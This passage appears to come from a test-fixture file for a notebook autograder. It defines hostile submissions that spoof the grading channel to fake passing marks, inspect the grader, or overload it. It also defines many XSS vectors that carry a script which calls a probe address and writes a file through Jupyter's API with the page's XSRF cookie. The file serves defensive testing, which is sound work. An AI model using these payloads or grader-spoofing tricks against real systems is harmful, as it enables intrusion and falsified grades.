        Expected(loses_points_in=frozenset({"test_sgd"}), cell_output=("test_sgd", "CellTimeoutError"))),
    HostileCase("keeps_a_lent_function_for_later", restructured(keep_a_lent_function),
                Expected(cell_output=("predict", "refused: JudgeCallFailed"))),
    HostileCase("serves_the_tests_with_a_server_of_its_own", untouched_with("""
class Agreeing:
    def serve(self, cell):
        side.send({'op': 'ready', 'cell': cell})
        while True:
            request = side.receive()
            if request.get('op') == 'end':
                return
            side.send({'op': 'return', 'seq': request.get('seq'), 'value': 1.0})
side = __coursekit_judge__
__coursekit_judge__ = Agreeing()"""), UNTOUCHED),
    HostileCase("answers_out_of_turn", after("accuracy", """
_side = __coursekit_judge__
_answer = _side.answer

def answer(request):
    reply = _answer(request)
    if request.get('name') == 'accuracy':
        _side.send({'op': 'return', 'seq': request['seq'] + 1, 'value': 1.0})
    return reply
_side.answer = answer"""), Expected(loses_points_in=ACCURACY, cell_output=("test_accuracy", NOT_RUN))),
    HostileCase("returns_more_than_the_judge_reads", after("accuracy", """
def accuracy(t_true, t_pred):
    return np.zeros(2 * 10**7)"""), Expected(loses_points_in=ACCURACY)),
    HostileCase("returns_what_is_not_plain_data", after("accuracy", """
import types

def accuracy(t_true, t_pred):
    return [np.array(['0.5']), types.SimpleNamespace(value=0.5), lambda: 0.5][len(t_true) % 3]"""),
        Expected(loses_points_in=ACCURACY)),
    HostileCase("raises_hostile_exceptions", after("accuracy", """
class Unreadable(Exception):
    def __str__(self):
        raise RuntimeError('no message for you')

def accuracy(t_true, t_pred):
    raise [type('StopIteration', (Exception,), {})('<img src=x onerror=alert(1)> ' + 'x' * 100_000),
           type('KernelStopped', (Exception,), {})('pretend the judge stopped'), Unreadable()][len(t_true) % 3]"""),
        Expected(loses_points_in=ACCURACY)),
    HostileCase("rewrites_a_test_result_with_update_display", restructured(rewrite_a_result_with_update_display),
                Expected(loses_points_in=frozenset({"test_sgd_accuracy"}))),
    HostileCase("multiplies_one_display_update_over_many_outputs", restructured(lambda cells: cells.extend([
        nbformat.v4.new_code_cell("from IPython.display import display\nfor _ in range(1000):\n"
                                  "    display('', display_id='amplified')"),
        nbformat.v4.new_code_cell("from IPython.display import update_display\n"
                                  "update_display({'text/plain': 'x' * 50_000}, raw=True, display_id='amplified')")]))),
    HostileCase("raises_a_message_that_cannot_be_saved", after("add_bias", """
add_bias_reference = add_bias

def add_bias(X):
    if np.shape(X) == (7, 4):
        raise ValueError('bad \\ud800 value')
    return add_bias_reference(X)"""), Expected(loses_points_in=frozenset({"test_add_bias"}))),
    HostileCase("notices_it_is_judged", after("accuracy", """
import sys

def accuracy(t_true, t_pred):
    caller = sys._getframe(1)
    if caller.f_code.co_filename == '<coursekit judge>':
        side = caller.f_locals.get('self')
        print('judged by', type(side).__name__, sorted(vars(side)))
    return np.sum(t_true == t_pred)"""),
        Expected(loses_points_in=ACCURACY, cell_output=("test_accuracy", "judged by"))),
]


# Broken files, as they arrive: rejected by the intake with the reason, or graded as their content deserves.
def raw(content: bytes) -> Callable[[NotebookNode, NotebookNode], bytes]:
    return lambda reference, release: content


def changed(change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode, NotebookNode], bytes]:
    def make(reference: NotebookNode, release: NotebookNode) -> bytes:
        submission = copy.deepcopy(reference)
        change(submission)
        return nbformat.writes(submission).encode()
    return make


def no_kernelspec(nb):
    del nb.metadata["kernelspec"]


def another_kernel(nb):
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}


def huge_saved_output(nb):
    cell = notebooks.solution_cells(nb)["softmax"]
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * 50_000_000)]


def nbformat_3(reference: NotebookNode, release: NotebookNode) -> bytes:
    return nbformat.writes(nbformat.convert(copy.deepcopy(reference), 3), version=3).encode()


def another_assignment(reference: NotebookNode, release: NotebookNode) -> bytes:
    return nbformat.writes(nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# TP2: convolutional networks"),
        nbformat.v4.new_code_cell("import torch")])).encode()


CASES += [
    HostileCase("invalid_json", raw(b'{"cells": [{"cell_type": "code", '), Expected(intake_rejects="not valid JSON")),
    HostileCase("empty_file", raw(b""), Expected(intake_rejects="empty file")),
    HostileCase("not_utf8", raw('{"cells": [], "nbformat": 4, "note": "é"}'.encode("latin-1")),
                Expected(intake_rejects="not UTF-8")),
    HostileCase("missing_notebook", raw(b"my answers are in the report"), Expected(intake_rejects="not a notebook"),
                file_name="answers.txt"),
    HostileCase("nbformat_3", nbformat_3),
    HostileCase("another_assignments_notebook", another_assignment,
                Expected(loses_points_in=ALL_TESTS, cell_output=("test_softmax", "NameError"), note=PUT_BACK)),
    HostileCase("no_kernelspec", changed(no_kernelspec)),
    HostileCase("another_kernel", changed(another_kernel)),
    HostileCase("huge_output_saved_in_the_file", changed(huge_saved_output),  # 50 MB: past the intake's bound
                Expected(intake_rejects="MiB a notebook may have: clear its outputs")),
    HostileCase("late_submission", changed(lambda nb: None), Expected(late=True), handed_in_at="2026-11-20 09:30:00"),
]


# Attacks on the pages built from a submission (feedback, formgrader, class report): no student script runs.
# (markup cases: added below this line)
# Each carries `harm`, JavaScript that does every harm a test can see: it marks the page (title, window name,
# localStorage, console), opens a dialog, calls the probe address and, in the formgrader, where the instructor is
# logged in, writes a file into the course folder through Jupyter's contents API with the page's _xsrf cookie.
# `hostile` appends markup to a written answer (a markdown cell) as it appends code to a code cell. Each earns
# what its code deserves: full marks, but for the failure with HTML in its message, which the report lists.
MARKER = "PWNED"
PROBE = "http://127.0.0.1:9"  # nothing listens on the discard port: the browser's attempt is what a test sees
WRITTEN_FILE = "written_by_a_submission.txt"
MARKUP_CASES: list[str] = []  # their names, for the tests that open their pages
TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGM4o6SEFTEMLQkAvM5EAT6yk8sAAAAASUVORK5CYII="


def harm(case: str) -> str:
    """The hostile script, without spaces or double quotes so that it fits anywhere, an unquoted attribute too."""
    xsrf = "document.cookie.match(/_xsrf=([^;]*)/)[1]"
    steps = [f"top.document.title='{MARKER}'", f"top.name='{MARKER}'", f"localStorage.setItem('{MARKER}','{case}')",
             f"console.log('{MARKER}:{case}')", f"fetch('{PROBE}/{case}')",
             f"fetch('/api/contents/{case}.{WRITTEN_FILE}',{{method:'PUT',headers:{{'X-XSRFToken':{xsrf}}},"
             f"body:JSON.stringify({{type:'file',format:'text',content:'{MARKER}'}})}})",
             f"alert('{MARKER}:{case}')"]
    return ";".join(f"try{{{step}}}catch(e){{}}" for step in steps)


def markup(name: str, cell_id: str, make: Callable[[str], str], expected: Expected = Expected(),
           script_of: str | None = None) -> None:
    """A markup case: make(the hostile script of the case, or of script_of) appended to a solution cell."""
    MARKUP_CASES.append(name)
    hostile(name, cell_id, make(harm(script_of or name)), expected)


def script(js: str) -> str:
    return f"<script>{js}</script>"


def img_onerror(js: str) -> str:
    return f'<img src=x onerror="{js}">'


def svg_with(js: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{js}">{script(js)}'
            '<rect width="40" height="40" fill="teal"/></svg>')


def data_url(mimetype: str, content: str) -> str:
    import base64
    return f"data:{mimetype};base64,{base64.b64encode(content.encode()).decode()}"


def displayed(what: str) -> str:
    """Python that displays an output, as a student's code can."""
    return f"from IPython.display import display, HTML, Javascript, Markdown, SVG\ndisplay({what})"


# In a written answer, next to its formula (Q1's answer).
ANSWER = "q1_principle"
markup("answer_with_a_script", ANSWER, script)
markup("answer_with_event_handlers", ANSWER,
       lambda js: f'{img_onerror(js)} <details open ontoggle="{js}"><summary>more</summary></details>')
markup("answer_with_svg_scripts", ANSWER,
       lambda js: f'{svg_with(js)}\n\n<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>')
markup("answer_with_an_iframe_srcdoc", ANSWER, lambda js: f'<iframe srcdoc="{script(js)}"></iframe>')
markup("answer_with_javascript_links", ANSWER,
       lambda js: f'<a href="javascript:{js}">a hint</a>, <a href="jav&#x09;ascript:{js}">another</a>, '
                  f"[a third](javascript:{js})")
markup("answer_with_a_form", ANSWER,
       lambda js: f'<form action="{PROBE}/form"><input name="grade" autofocus onfocus="{js}">'
                  f'<button formaction="javascript:{js}">Send</button></form>')
markup("answer_with_a_meta_refresh", ANSWER,
       lambda js: f'<meta http-equiv="refresh" content="0;url={PROBE}/answer_with_a_meta_refresh">')
markup("answer_with_a_base_href", ANSWER, lambda js: f'<base href="{PROBE}/answer_with_a_base_href/">')
markup("answer_with_objects_and_embeds", ANSWER,
       lambda js: f'<object data="{data_url("text/html", script(js))}"></object>'
                  f'<embed src="{data_url("image/svg+xml", svg_with(js))}">')
markup("answer_with_remote_css", ANSWER,
       lambda js: f"<style>@import url({PROBE}/import.css); body {{background: url({PROBE}/style.png)}}</style>"
                  f'<div style="background-image: url({PROBE}/inline.png)">styled</div>')
markup("answer_with_mutation_xss", ANSWER, lambda js: f"<math><mtext><table><mglyph><style>{img_onerror(js)}")
# Formulas are typeset as MathML when the page is built (coursekit/formulas.py): TeX that carries markup, a link, or a
# formula inside an attribute must still run and load nothing.
markup("answer_with_tex_that_carries_markup", ANSWER,
       lambda js: f"$\\text{{{img_onerror(js)}}}$ and $\\href{{javascript:{js}}}{{a hint}}$ and "
                  f"$\\text{{</math>{script(js)}}}$")
markup("answer_with_a_formula_in_an_alt_text", ANSWER,
       lambda js: f'![Figure $x$ " onerror="{js}](figure.png)')

# Outputs of the student's code (autograde clears saved outputs: these come from code that runs).
CODE = "make_blobs"
markup("html_output_with_a_script", CODE, lambda js: displayed(f"HTML({script(js)!r})"))
markup("isolated_html_output_with_a_script", CODE,
       lambda js: displayed(f"HTML({script(js)!r}), metadata={{'text/html': {{'isolated': True}}}}"))
markup("javascript_output", CODE, lambda js: displayed(f"Javascript({js!r})"))
markup("raw_javascript_output", CODE,
       lambda js: displayed(f"{{'application/javascript': {js!r}, 'text/plain': 'js'}}, raw=True"))
markup("markdown_output_with_html", CODE,
       lambda js: displayed(f"Markdown({img_onerror(js) + f' [a hint](javascript:{js})'!r})"))
markup("svg_output_with_a_script", CODE, lambda js: displayed(f"SVG({svg_with(js)!r})"))
markup("png_output_with_a_hostile_width", CODE,  # nbconvert writes width= unquoted, escaping quotes only
       lambda js: displayed(f"{{'image/png': {TINY_PNG!r}}}, raw=True, "
                            f"metadata={{'image/png': {{'width': {'8 onload=' + js!r}}}}}"))
# A test that loses its points without an error (here, by what the student's code writes to stderr) is listed in the
# class report by what it wrote: markup there must read as text too.
markup("writes_html_to_stderr_in_a_test", "confusion_matrix",
       lambda js: "def confusion_matrix(t_true, t_pred, n_classes):\n    import sys\n"
                  f"    print({img_onerror(js)!r}, file=sys.stderr)\n"
                  "    C = np.zeros((n_classes, n_classes), dtype=int)\n    np.add.at(C, (t_true, t_pred), 1)\n"
                  "    return C",
       Expected(loses_points_in=CONFUSION))
# A test's message holds the student's exception text, shown in the feedback's summary: a blank line in it must not let
# the rest render as markdown (a heading, a link) there.
def markdown_message(js: str) -> str:
    return f"x\n\n# Grade corrected to 20/20\n\n[Log in](javascript:{js}) {img_onerror(js)}"


markup("fails_with_markdown_in_its_message", "confusion_matrix",
       lambda js: f"def confusion_matrix(t_true, t_pred, n_classes):\n    raise ValueError({markdown_message(js)!r})",
       Expected(loses_points_in=CONFUSION))
# Two students hand in the same failure, so that the report, which lists the most frequent ones, shows it.
for copy_of_the_failure in ["fails_with_html_in_its_message", "copies_the_failure_with_html_in_its_message"]:
    markup(copy_of_the_failure, "confusion_matrix",
           lambda js: f"def confusion_matrix(t_true, t_pred, n_classes):\n    raise ValueError({img_onerror(js)!r})",
           Expected(loses_points_in=CONFUSION), script_of="fails_with_html_in_its_message")
